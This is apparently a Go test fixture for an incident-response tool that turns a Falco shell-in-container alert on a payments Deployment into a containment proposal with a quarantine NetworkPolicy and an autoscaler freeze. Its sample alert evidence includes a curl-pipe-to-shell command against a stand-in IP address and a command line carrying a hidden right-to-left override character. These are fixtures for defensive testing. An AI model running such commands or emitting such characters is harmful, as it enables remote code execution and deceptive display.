package proposal_test

import (
	"time"

	"github.com/irgit/irgit/internal/proposal"
)

const (
	incident = "20261123-payments-0d15ea5e"
	dir      = "incident-response/prod-eu/" + incident
	patches  = "incident-response/patches/prod-eu/apps"
)

// shell is a realistic incident: a terminal in a container of payments.
func shell() proposal.Document {
	at := func(clock string) time.Time {
		t, err := time.Parse(time.RFC3339Nano, "2026-11-23T"+clock+"Z")
		if err != nil {
			panic(err)
		}
		return t
	}
	return proposal.Document{
		Incident: incident, Key: "0d15ea5e", Cluster: "prod-eu",
		Target: proposal.Object{Kind: "Deployment", Namespace: "payments", Name: "payments"},
		Branch: "irgit/" + incident, Base: "main",
		Severity: "medium", Source: "falco", Rule: "Terminal shell in container", Count: 3,
		First: at("03:12:07.002873265"), Last: at("03:14:40"), Techniques: []string{"T1059"},
		Policy: proposal.Policy{
			Name: "terminal-shell", Tier: "isolate",
			Description: "Somebody has an interactive shell in a container that serves customers. The network is cut so that nothing leaves, and the workload stands still so that the process can be looked at.",
			Why: []string{
				`policy terminal-shell is the most specific match: source "falco", rule "Terminal shell in container", namespace "payments"`,
				`the target is Deployment payments/payments: the alert names its namespace and the pod's name fits its ReplicaSets`,
			},
		},
		Actions: []proposal.Action{
			{
				Name: "quarantine", Variant: "networkpolicy",
				Summary: "Cut the workload's pods off the network in both directions with a NetworkPolicy.",
				Changes: []proposal.ObjectChange{{Object: proposal.Object{Kind: "NetworkPolicy", Namespace: "payments", Name: "irgit-" + incident + "-quarantine"}}},
				DoesNot: []string{
					"A NetworkPolicy takes nothing back that another one allows.",
					"Connections that are open already may stay open, a reverse shell too. Restart or delete the pods to end them.",
					"Traffic from the pod's own node and within the pod is not blocked.",
				},
				Cuts: "unknown", Undo: "The release removes the NetworkPolicy.", UndoHurts: "Nothing is restarted.",
				D3FEND: []string{"D3-NI", "D3-ITF", "D3-OTF"}, OpenC2: "contain", Phase: "containment", CSF: []string{"RS.MI-01"},
			},
			{
				Name: "freeze-scale", Summary: "Stop the HorizontalPodAutoscaler in both directions; the number of pods stays what it is.",
				Changes: []proposal.ObjectChange{{
					Patch: true, Object: proposal.Object{Kind: "HorizontalPodAutoscaler", Namespace: "payments", Name: "payments"},
					Fields: []string{"spec.behavior.scaleDown.selectPolicy: Disabled", "spec.behavior.scaleUp.selectPolicy: Disabled"},
				}},
				DoesNot: []string{"A person who scales by hand is not stopped."},
				Cuts:    "no", Undo: "The release takes the two fields out again.", UndoHurts: "The autoscaler catches up at once.",
				D3FEND: []string{"D3-ACH"}, OpenC2: "set", Phase: "containment", CSF: []string{"RS.MI-01"},
			},
			{Name: "freeze-rollout", Skipped: "the Deployment is paused already by its owner"},
		},
		Hits: []proposal.Workload{
			{
				Object: proposal.Object{Kind: "Deployment", Namespace: "payments", Name: "payments"}, How: "the target", Replicas: "2 to 6",
				Images: []string{"registry.example.com/checkout/payments:4.12.1"},
			},
		},
		Traffic: proposal.Traffic{
			Flows: []proposal.Flow{
				{What: "cut", From: "Deployment web/frontend", To: "Deployment payments/payments 8080/TCP", Why: "NetworkPolicy payments/irgit-" + incident + "-quarantine"},
				{What: "cut", From: "Deployment payments/payments", To: "the internet 443/TCP", Why: "NetworkPolicy payments/irgit-" + incident + "-quarantine"},
				{What: "lives", From: "kubelet", To: "Deployment payments/payments 8080/TCP"},
				{What: "lives", From: "Deployment payments/payments", To: "StatefulSet payments/ledger 5432/TCP"},
				{What: "unclear", From: "CronJob batch/report", To: "Deployment payments/payments 8080/TCP", Why: "it depends on the method of the request"},
			},
			Stays: 2, Unclear: 1,
		},
		Warnings: []string{
			"only the pod's name says that this workload is meant, and whoever creates a pod chooses its name",
			"quarantine: not isolating: NetworkPolicy payments-egress selects the same pods and allows traffic, which goes on",
		},
		Files: []proposal.File{
			{Path: dir + "/contain/kustomization.yaml", Change: "add"},
			{Path: dir + "/contain/quarantine.yaml", Change: "add"},
			{Path: dir + "/incident.yaml", Change: "add"},
			{Path: dir + "/kustomization.yaml", Change: "add"},
			{Path: dir + "/sync-contain.yaml", Change: "add"},
			{Path: patches + "/" + incident + "/kustomization.yaml", Change: "add"},
			{Path: patches + "/" + incident + "/freeze-scale.yaml", Change: "add"},
			{Path: patches + "/kustomization.yaml", Change: "edit"},
		},
		Expires: at("03:12:07").Add(24 * time.Hour),
		Difference: `--- apps/prod-eu
+++ apps/prod-eu
@@ HorizontalPodAutoscaler payments/payments @@
 spec:
+  behavior:
+    scaleDown:
+      selectPolicy: Disabled
+    scaleUp:
+      selectPolicy: Disabled
   maxReplicas: 6
--- incident-response/prod-eu/` + incident + `/contain
+++ incident-response/prod-eu/` + incident + `/contain
@@ NetworkPolicy payments/irgit-` + incident + `-quarantine @@
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata:
+  annotations:
+    kustomize.toolkit.fluxcd.io/substitute: disabled
+  name: irgit-` + incident + `-quarantine
+  namespace: payments
+spec:
+  podSelector:
+    matchLabels:
+      app.kubernetes.io/name: payments
+  policyTypes:
+  - Ingress
+  - Egress
`,
		Roots: []string{"apps/prod-eu", dir + "/contain"},
		Evidence: []proposal.Alert{
			{
				Time: at("03:12:07.002873265"), Source: "falco", Severity: "medium", Rule: "Terminal shell in container",
				Digest: "sha256:8c7dd922ad47494fc02c388e12c00eac4f1b0d4d3b1f2a7a6f0c5d9e8b7a6c5d",
				Fields: []proposal.Field{
					{Name: "container.image.repository", Value: "registry.example.com/checkout/payments"},
					{Name: "k8s.ns.name", Value: "payments"},
					{Name: "k8s.pod.name", Value: "payments-6d4cf56db6-x2x9p"},
					{Name: "proc.cmdline", Value: "sh -c curl -s http://198.51.100.7/x | sh # @ops see #1"},
					{Name: "proc.pname", Value: "runc"},
					{Name: "user.name", Value: "root"},
				},
			},
			{
				Time: at("03:14:40"), Source: "falco", Severity: "medium", Rule: "Terminal shell in container", Cut: true,
				Digest: "sha256:1f0c5d9e8b7a6c5d8c7dd922ad47494fc02c388e12c00eac4f1b0d4d3b1f2a7a",
				Fields: []proposal.Field{{Name: "proc.cmdline", Value: "psql postgresql://app:[masked]@db/x\u202e"}},
			},
		},
		Record: dir + "/incident.yaml", Signed: true,
		BaseRevision: "5d41402abc4b2a76b9719d911017c592ae3f1c7d",
		PolicyDigest: "sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
		Proof:        "sha256:fcde2b2edba56bf408601fb721fe9b5c338d10ee429ea04fae5511b68fbf8fb9",
	}
}
